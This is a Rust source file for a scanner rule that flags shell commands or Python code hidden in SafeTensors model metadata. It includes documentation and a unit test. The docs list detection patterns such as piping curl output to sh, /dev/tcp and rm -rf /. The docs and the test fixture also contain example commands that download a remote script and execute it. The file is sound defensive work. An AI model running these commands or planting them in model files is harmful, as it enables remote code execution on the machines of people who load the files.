//! ST006: a SafeTensors metadata string contains a shell command or Python code.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use super::metadata_payloads::{MetadataText, check_code};

pub static RULE: RuleMeta = RuleMeta {
    code: "ST006",
    name: "safetensors-metadata-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "safetensors",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A SafeTensors metadata key or value contains a shell command or Python code.",
    remediation: "Find out what reads this metadata; do not run it. Re-save the tensors without the metadata entry.",
    docs: r#"## What it does
Looks at every `__metadata__` key and value, every string found where the
format allows none, and every tensor name for Python that evaluates code or
runs commands (`eval(`, `exec(`, `__import__`, `os.system(`,
`subprocess.run(`, `import os`, …) and shell commands (`curl … | sh`,
`wget … | bash`, `/dev/tcp/`, `bash -c`, `powershell -enc`, `rm -rf /`, …).
Patterns need call or pipe syntax: the words `eval` or `curl` alone, and
method calls such as `model.eval()`, do not match.

## Why is this bad?
SafeTensors cannot run code, which is why it is trusted. A command in its
metadata is staged for something that will: a custom loader that `eval`s a
config string, a training script that runs a "setup" hook, or a person who
copies it into a terminal.

## Example
`{"__metadata__": {"setup": "curl -s https://example.invalid/i.sh | sh"}}`

## How to fix
Do not execute anything taken from model metadata. Re-save the tensors
without the entry.

## References
- https://huggingface.co/docs/safetensors (metadata is free-form text)
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(texts: &[MetadataText<'_>], location: &Location, out: &mut Vec<Finding>) {
    check_code(&RULE, texts, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::safetensors::metadata_payloads::Text;

    #[test]
    fn one_finding_per_class_of_code() {
        let texts = [
            MetadataText {
                key: "setup",
                text: Text::Str(
                    "python -c 'import os; os.system(\"id\")' && wget -qO- http://x/i | sh",
                ),
                offset: 16,
                in_vocabulary: false,
            },
            MetadataText {
                key: "format",
                text: Text::Str("pt"),
                offset: 8,
                in_vocabulary: false,
            },
        ];
        let mut out = Vec::new();
        check(&texts, &Location::file("m.safetensors"), &mut out);
        let got: Vec<_> = out
            .iter()
            .map(|f| (f.rule.as_str(), f.title.as_str(), f.category))
            .collect();
        assert_eq!(
            got,
            [
                (
                    "ST006",
                    "Metadata `setup` contains Python code (`os.system`)",
                    Category::ArbitraryCodeExecution
                ),
                (
                    "ST006",
                    "Metadata `setup` contains a shell command (`wget … | sh`)",
                    Category::OsCommandExecution
                ),
            ]
        );
    }
}
